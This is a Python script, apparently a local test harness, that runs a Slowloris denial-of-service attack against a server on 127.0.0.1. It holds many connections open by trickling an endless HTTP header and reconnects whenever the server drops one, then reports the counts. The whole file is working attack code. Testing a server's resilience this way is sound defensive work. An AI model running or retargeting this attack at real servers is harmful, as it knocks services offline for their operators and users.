#!/usr/bin/env python3
"""Holds connections to an HTTP server by trickling a request that never ends.

Usage: slowloris.py PORT CONNS SECONDS

Opens CONNS connections to 127.0.0.1:PORT, sends each one byte of an
endless request header a second, and opens a new connection at once for
each one the server closes (as an attacker would), for SECONDS seconds.
Prints how many connections it opened and how many the server closed.
"""
import errno
import selectors
import socket
import sys
import time

HEAD = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: "


class Conn:
    def __init__(self, port):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setblocking(False)
        rc = self.sock.connect_ex(("127.0.0.1", port))
        if rc not in (0, errno.EINPROGRESS):
            self.sock.close()
            raise OSError(rc, "connect")
        self.sent = 0

    def next_byte(self):
        return HEAD[self.sent:self.sent + 1] if self.sent < len(HEAD) else b"a"


def main():
    port, n, secs = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    sel = selectors.DefaultSelector()
    opened = closed = 0

    def open_one():
        nonlocal opened
        try:
            c = Conn(port)
        except OSError:
            return
        opened += 1
        sel.register(c.sock, selectors.EVENT_READ, c)

    def close_one(c):
        nonlocal closed
        closed += 1
        sel.unregister(c.sock)
        c.sock.close()

    for _ in range(n):
        open_one()
    end = time.monotonic() + secs
    tick = time.monotonic()
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=max(0.0, min(tick, end) - time.monotonic())):
            try:
                data = key.fileobj.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:  # closed by the server: come back at once
                close_one(key.data)
                open_one()
        if time.monotonic() >= tick:
            tick += 1.0
            for key in list(sel.get_map().values()):
                c = key.data
                try:
                    c.sent += c.sock.send(c.next_byte())
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    close_one(c)
                    open_one()
    print(f"slowloris: {n} connections trickling for {secs:.0f} s: opened {opened}, "
          f"closed by the server {closed}")


if __name__ == "__main__":
    main()
